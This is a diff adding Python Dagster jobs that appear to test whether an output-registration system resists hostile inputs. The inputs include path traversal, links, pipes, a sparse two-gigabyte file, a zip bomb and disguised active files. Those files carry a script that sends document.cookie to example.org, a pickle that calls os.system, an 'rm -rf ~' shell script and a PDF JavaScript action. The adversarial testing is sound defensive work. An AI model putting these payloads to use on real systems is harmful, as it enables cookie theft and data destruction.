@@ -1,0 +1,158 @@
+"""Outputs that are no honest files: climbing paths, links, pipes, giants, and what runs when opened."""
+
+import os
+import socket
+import zipfile
+from functools import partial
+from pathlib import Path
+
+import dagster as dg
+
+from intruder import findings
+from phems.contract.runtime import current_runtime
+
+AREA = Path("/artifacts")
+
+
+def _register(path: str) -> str:
+    runtime = current_runtime()
+    assert runtime is not None
+    return runtime.outputs.register(path).sha256
+
+
+@dg.op(config_schema={"other_run": str})
+def register_strange_paths(context: dg.OpExecutionContext) -> None:
+    """Registers, by hand, everything that is no plain file of this run."""
+    mine = f"outputs/{context.run_id}"
+    folder = AREA / mine
+    folder.mkdir(parents=True)
+    (folder / "honest.csv").write_text("a\n1\n")
+    (folder / "link.csv").symlink_to("/data/weather.csv")
+    (folder / "link_up.csv").symlink_to("../../told")
+    (folder / "linked").symlink_to("/data")
+    (folder / "loop.csv").symlink_to("loop.csv")
+    (folder / "folder.csv").mkdir()
+    os.mkfifo(folder / "pipe.csv")
+    with socket.socket(socket.AF_UNIX) as server:
+        server.bind(str(folder / "socket.csv"))
+    (folder / "unreadable.csv").write_text("a")
+    (AREA / "outside.csv").write_text("a\n1\n")
+    other = context.op_config["other_run"]
+    paths = {
+        "honest": f"{mine}/honest.csv",
+        "link": f"{mine}/link.csv",
+        "link upwards": f"{mine}/link_up.csv",
+        "folder link": f"{mine}/linked/weather.csv",
+        "loop": f"{mine}/loop.csv",
+        "folder": f"{mine}/folder.csv",
+        "pipe": f"{mine}/pipe.csv",
+        "socket": f"{mine}/socket.csv",
+        "absent": f"{mine}/absent.csv",
+        "climbing": f"{mine}/../../outside.csv",
+        "climbing out": f"{mine}/../../../ward/outputs/x.csv",
+        "absolute": "/etc/passwd",
+        "absolute own": f"/artifacts/{mine}/honest.csv",
+        "another run's": f"outputs/{other}/honest.csv",
+        "not an output": "outside.csv",
+        "empty": "",
+        "dot": f"{mine}/./honest.csv",
+        "backslash": f"{mine}\\..\\x.csv",
+        "nul": f"{mine}/honest.csv\0.png",
+        "line break": f"{mine}/a\nb.csv",
+        "right to left": f"{mine}/\u202evsc.exe",
+        "long": f"{mine}/{'x' * 300}.csv",
+    }
+    findings.run({name: partial(_register, path) for name, path in paths.items()})
+
+
+@dg.op
+def write_giant(context: dg.OpExecutionContext) -> None:
+    """Two gigabytes without a disk to hold them."""
+    folder = AREA / f"outputs/{context.run_id}"
+    folder.mkdir(parents=True)
+
+    def sparse() -> int:
+        with (folder / "giant.csv").open("wb") as file:
+            return file.truncate(2 << 30)
+
+    def plain() -> int:
+        with (folder / "large.csv").open("wb") as file:
+            for _ in range(64):
+                file.write(b"x" * (1 << 20))
+        return (folder / "large.csv").stat().st_size
+
+    findings.run({"sparse": sparse, "plain": plain})
+
+
+@dg.op
+def write_dangerous_files(context: dg.OpExecutionContext) -> None:
+    """Files that would do something when opened. They may lie here; they may not leave."""
+    folder = AREA / f"outputs/{context.run_id}"
+    folder.mkdir(parents=True)
+    bomb = folder / "bomb.zip"
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        archive.writestr("zeros", b"\0" * (6 << 20))
+    script = b"<script>fetch('http://example.org/?' + document.cookie)</script>"
+    files = {
+        "page.html": b"<!doctype html>" + script,
+        "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>",
+        "code.js": b"alert(1)",
+        "model.pkl": b"\x80\x04\x95cos\nsystem\n",
+        "sheet.xlsm": bomb.read_bytes(),
+        "program.sh": b"#!/bin/sh\nrm -rf ~\n",
+        "page.csv": b"a,b\n1," + script + b"\n",
+        "page.txt": b"text\n" * 2000 + b"<ScRiPt>x</ScRiPt>",
+        "bomb.csv": bomb.read_bytes(),
+        "model.json": b"\x80\x04\x95cos\nsystem\n",
+        "page.png": b"<html>" + script,
+        "half.png": b"\x89PNG\r\n\x1a\n" + script,
+        "active.pdf": b"%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF",
+        "table.parquet": b"PAR1" + script,
+        "binary.csv": b"a,b\n\x00\x01\x02",
+    }
+    for name, content in files.items():
+        (folder / name).write_bytes(content)
+    names = [*files, "bomb.zip"]
+    found = {}
+    for name in names:
+        found[name] = _register(f"outputs/{context.run_id}/{name}")
+    findings.tell(found)
+
+
+@dg.op
+def swap_through_a_link(context: dg.OpExecutionContext) -> None:
+    """Registers an honest file that has a second name, and writes through that one afterwards."""
+    folder = AREA / f"outputs/{context.run_id}"
+    folder.mkdir(parents=True)
+    (folder / "table.csv").write_text("a\n1\n")
+    os.link(folder / "table.csv", AREA / f"second-name-{context.run_id}.csv")
+    sha256 = _register(f"outputs/{context.run_id}/table.csv")
+    (AREA / f"second-name-{context.run_id}.csv").write_text("b\n2\n")
+    findings.tell({"sha256": sha256})
+
+
+@dg.job
+def register_strange_paths_job() -> None:
+    """See the op."""
+    register_strange_paths()
+
+
+@dg.job
+def write_giant_job() -> None:
+    """See the op."""
+    write_giant()
+
+
+@dg.job
+def write_dangerous_files_job() -> None:
+    """See the op."""
+    write_dangerous_files()
+
+
+@dg.job
+def swap_through_a_link_job() -> None:
+    """See the op."""
+    swap_through_a_link()
+
+
+JOBS = [register_strange_paths_job, write_giant_job, write_dangerous_files_job, swap_through_a_link_job]
